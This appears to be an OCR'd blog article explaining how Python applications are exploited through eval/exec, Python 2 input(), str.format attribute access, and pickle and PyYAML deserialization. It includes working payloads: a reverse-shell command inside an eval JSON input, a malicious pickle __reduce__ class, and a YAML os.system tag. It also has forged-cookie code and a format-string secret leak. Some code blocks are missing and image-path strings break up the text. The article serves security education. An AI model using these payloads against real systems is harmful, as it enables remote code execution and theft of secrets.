Hacking Python Applications

And how attackers exploit common programming pitfalls to gain control

Vickie Li
The Startup


How secure an application is, has very little to do with language choice. You can program securely in languages that are prone to vulnerabilities, and do very insecure things with languages designed to be secure.

However, there are features that developers should be on the lookout for as potential weaknesses in every language. Today, let’s talk about a few dangerousfeatures that could be exploited by attackers in Python.

Exploiting dangerous functions: eval(), exec() and input()

Dangerous functions in Python like eval(), exec() and input() can be used to achieve authentication bypass and even code injection.


The eval() function in Python takes strings and execute them as code. For example, eval(‘1+1’) would return 2.

Since eval() can be used to execute arbitrarycode on the system, it should never ever ever be used on any type of unsanitized user input. Let’s look at a vulnerable application for example. The following calculator application uses a JSON API to accept user input:def addition(a, b):
return eval("%s + %s" % (a, b))
result = addition(request.json['a'], request.json['b'])
print("The result is %d." % result)

When operating as expected, the input

{"a":"1", "b":"2"}

Would cause the program to print “The result is 3.

But since eval() would take user-provided input and execute it as Python code, a hacker could provide the application with something more malicious instead:

{"a":"__import__('os').system('bash -i >& /dev/tcp/ 0>&1')#", "b":"2"}

This input would cause the application to call os.system() and spawn a reverse shell back to the IP on port 8080.


exec() is similar to eval() as they both have the ability to execute Python code from a given string input. The following program could be exploited in the same way as above:

def addition(a, b):
return exec("%s + %s" % (a, b))
addition(request.json['a'], request.json['b'])


In Python 2, there are two built-in functions for taking user input: input() and raw_input(). Whereas in Python 3, there is only one: input().

The difference between input() and raw_input() in Python 2 is that raw_input() will take the user input and convert it into a string before further processing. Whereas input() will retain the original data type of the supplied value.So what’s the issue with this? Using Python 2’s input() function could mean that attackers are free to pass in variable names, function names and other data types, leading to authentication bypass and other unexpected outcomes.

For example, if a program is using the following code for access control:

user_pass = get_user_pass("admin")
if user_pass == input(“Please enter your password”):
print "Password is incorrect!"

The attacker could simply pass in the user_pass variable name as inputand the test case would pass since the program would interpret the user input as a variable. The Python conditional would then become:

if user_pass == user_pass: // this will evaluate as true

The attacker could even pass in get_user_pass(“admin”) and get the same result as the user input would be interpreted as a function call.

if user_pass == get_user_pass("admin"):
// this will also evaluate as true

Because of these security concerns, if using Python 2, raw_input() should be used instead of input().

This vulnerability is eliminated in Python 3. The only input function in Python 3, input(), behaves in the same way as raw_input() in Python 2, and will always convert user input to a string.

Exploiting string formatting

Another dangerous Python function is str.format(). If an application uses str.format() on a user-controlled format string, an attacker might be able to access arbitrary data of the program via crafted format strings. This is an easy-to-exploit and severe vulnerability that leads to authentication bypass and leaks of confidential data.

Python 3 introduced a new way of formatting text that is much more powerful and flexible than the old format strings using % operators. One of the features of the new string formatting functionality is that you could access the attributes of objects. This means that you could do something like this:

Imagine there is a program like the following that allows users to format their own nametag using str.format().

"API_KEY": "771df488714111d39138eb60df756e6b"
// some program secrets that users should not be able to read
class Person(object):
def__init__(self, name):
self.name = name
def print_nametag(format_string, person):
return format_string.format(person=person)
new_person = Person(“Vickie”)
print_nametag(input("Please format your nametag!"), person)

You could do something like this with the format string:

print_nametag("Hi, my name is {person.name}. I am a {person.__class__.__name__}.", new_person)

This would output:

“Hi, my name is Vickie. I am a Person.”

The issue arises when users control the format string directly, and when a Python object is passed into the format string. This is due to the use of special attributes of Python object methods. These attributes can be used to leak a variety of program data. For example, the attribute __globals__ can be used to access the dictionary that stores global variables.

print_nametag("{person.__init__.__globals__[CONFIG][API_KEY]}", new_person)

Would return “771df488714111d39138eb60df756e6b”, thus leaking the API key that the application uses.

Exploiting Pickle deserialization

Serialization is a process during which an object in a programming language (say, a Python object) is converted into a format that can be saved to the database or transferred over a network. Whereas deserialization refers to the opposite: it’s when the serialized object is read from a file or the network and converted back into an object.

Yummmmmmm. Photo by chuttersnap on Unsplash

In Python, serialization isdone through Pickles. The following code will print the pickled representation ofnew_person (this process is called pickling):

class Person:
def __init__(self, name):
self.name = name

new_person = Person("Vickie")Would print:


Whereas pickle.loads(pickled_object) will return the original Python object for the application to operate on. (This process is called unpickling.)

// -> prints "Vickie"

The danger in this functionality occurs when an application unpickles data from untrusted sources. If an attacker can control data that is unpickled by the application, she can cause authentication bypass and often even code execution.

Authentication bypass

If an application uses information from a pickled object for access control and does not check the integrity of the object, an attacker can simply supply the application with a forged pickle to bypass access control.

Let’s say an application’s session cookie is a string that is the base64 encoded, pickled representation of a Person object. And when the application receives a session cookie, it unpickles it to check for the user’s identity in the “name” field of the object.

class Person:
def __init__(self, name):
self.name = name

new_person = Person("Vickie")session_cookie = base64_encode(pickle.dumps(new_person))

Pickling data does not provide any form of data protection. It is simply a way of packaging data for transmission. If the cookie is not encrypted and the integrity of the cookie is not checked before use, an attacker can easily forge a cookie for any user using the following code:

class Person:
def __init__(self, name):
self.name = name

new_person = Person("Admin")
session_cookie = base64.b64encode(pickle.dumps(new_person))

Code Execution

Now for the even more exciting part: achieving code execution by utilizing insecure pickle deserialization!

Remember, a pickle can represent any arbitrary Python object. When an application unpickles a pickle, it is instantiating a new object of that class.

The pickle class allows objects to declare how they should be pickled via the __reduce__ method. This method takes no argument and returns either a string or a tuple. When returning a tuple, the tuple will dictate how the object is reconstructed during unpickling. The tuple should be in the form of:

(callableobject that will be called to instantiate the new object,
a tuple of arguments for that callable object)

This means that if an attacker defines a __reduce__ method in an object, the pickled object could be instantiated as something else during unpickling. Now if the attacker constructs a malicious object like this:

class Malicious:
def __reduce__(self):
return (os.system, ('bash -i >& /dev/tcp/ 0>&1',))

fake_object = Malicious()
session_cookie = base64.b64encode(pickle.dumps(fake_object))

She can make the victim application call the following upon unpickling:

os.system(‘bash -i >& /dev/tcp/ 0>&1’)

This would spawn a reverse shell to the IP on port 8080.

Exploiting YAML parsing

Another way that insecure deserialization can endanger Python applications is through the loading of YAML files.

YAML, interesting enough, stands for “YAML Ain’t Markup Language”. It is a data serialization standard that is widely used across programming languages. In Python, PyYaml is the most popular YAML processor.

YAML files, similar to pickles, can represent arbitrary Python objects. In PyYaml, you can package a Python object into a YAML document like so:

class Person:
def __init__(self, name):
self.name = name

new_person = Person("Vickie")

This will print a string like this:

!!python/object:__main__.Person {name: Vickie}

To reconstruct the YAML file to the original Python object, applications call:


Similar to pickle deserialization issues, YAML loading gives attackers a way to forge arbitrary objects and achieve code execution.

Authentication bypass

If the application uses user-supplied YAML for access control and does not check for integrity of the YAML file, a malicious user can potentially forge arbitrary YAMLdocuments to bypass access control.

class Person:
def __init__(self, name):
self.name = name

new_person = Person("Vickie")
session_cookie = base64_encode(yaml.dump(new_person))

For example, if the above code is used to generate the session cookie for a user, an attacker can simply generate a forged session cookie:

class Person:
def __init__(self, name):
self.name = name

new_person = Person("Admin")
session_cookie =base64_encode(yaml.dump(new_person))

Code Execution

If the application uses PyYaml < 4.1, it is also possible to achieve arbitrary code execution by providing the application with an os.system() command inside a YAML:

!!python/object/apply:os.system ["bash -i >& /dev/tcp/ 0>&1"]

Other dangerous when developing in Python

Besideslanguage-specific vulnerabilities,platform-agnostic issues like XSS, XXE, SQL injection and command injections are always something to be on the lookout for.

In addition,polluted packages and unpatched dependencies continue to be one of the biggest security concerns for Python developers. So be sure to payattention to those as well!

As always, hope you found that interesting. Thanks for reading!



Vickie Li
The Startup

Professional investigator of nerdy stuff.Hacks and secures. Creates god awful infographics.https://twitter.com/vickieli7